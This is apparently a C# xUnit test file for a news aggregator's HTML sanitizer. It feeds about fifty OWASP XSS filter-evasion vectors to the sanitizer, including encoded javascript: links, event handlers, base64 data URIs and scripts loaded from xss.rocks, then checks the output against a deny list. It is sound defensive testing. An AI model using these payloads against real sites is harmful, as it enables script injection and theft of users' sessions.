using System.Xml.Linq;
using Aggregator.Normalize;
using Xunit;

namespace Aggregator.Tests.Normalize;

/// <summary>A first set of OWASP XSS filter-evasion vectors; none may leave anything executable behind.</summary>
public class XssVectorTests
{
    private static readonly Uri Base = new("https://www.marxist.com/latest.htm");

    public static TheoryData<string> Vectors => new()
    {
        "<a href=\"javascript:alert('XSS')\">x</a>",
        "<a href=\"JaVaScRiPt:alert('XSS')\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
        "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
        "<a href=\"jav\tascript:alert('XSS');\">x</a>",
        "<a href=\"&#14;  javascript:alert('XSS');\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox('XSS')\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">x</a>",
        "<img src=\"javascript:alert('XSS');\">",
        "<img src=x onerror=\"alert('XSS')\">",
        "<img src=\"https://example.org/x.png\" onerror=alert(1)//>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<img \"\"\"><script>alert(\"XSS\")</script>\">",
        "<svg onload=alert(1)>",
        "<svg/onload=alert('XSS')>",
        "<body onload=alert('XSS')>",
        "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
        "<<script>alert(\"XSS\");//<</script>",
        "<script/XSS src=\"http://xss.rocks/xss.js\"></script>",
        "<script src=//xss.rocks/.j>",
        "<iframe src=\"javascript:alert('XSS');\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<base href=\"javascript:alert('XSS');//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS');\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert('XSS');\">",
        "<style>@import'http://xss.rocks/xss.css';</style>",
        "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
        "<div style=\"width: expression(alert('XSS'));\">x</div>",
        "<table background=\"javascript:alert('XSS')\"><td>x</td></table>",
        "<object type=\"text/x-scriptlet\" data=\"http://xss.rocks/scriptlet.html\"></object>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<input type=\"image\" src=\"javascript:alert('XSS');\">",
        "<a href=\"https://example.org/\" onmouseover=\"alert(1)\">x</a>",
        "<div><a href=\"https://example.org/\"><b>unclosed <i>nesting</a></div></b>",
        "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<video poster=javascript:alert(1)//></video>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<img srcset=\"javascript:alert(1) 1x, https://example.org/ok.png 2x\" src=\"https://example.org/ok.png\">",
        "<a href=\"http://example.org/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>",
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Sanitize_XssVector_LeavesNothingExecutable(string vector)
    {
        var html = HtmlSanitizer.Sanitize(vector, Base);

        foreach (var forbidden in new[] { "javascript", "vbscript", "data:text", "<script", "<svg", "<math", "<iframe", "<object", "<embed", "<base", "<meta", "<link", "<style", "<form", "<input", "<button", "style=", "srcdoc", "formaction", "background=" })
        {
            Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
        }

        // No attribute name starting with "on" survives anywhere.
        var root = XElement.Parse("<root>" + html + "</root>");
        Assert.DoesNotContain(root.Descendants().SelectMany(e => e.Attributes()), a => a.Name.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase));
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Sanitize_XssVector_IsStableWhenSanitizedAgain(string vector)
    {
        var once = HtmlSanitizer.Sanitize(vector, Base);
        Assert.Equal(once, HtmlSanitizer.Sanitize(once, Base));
    }
}
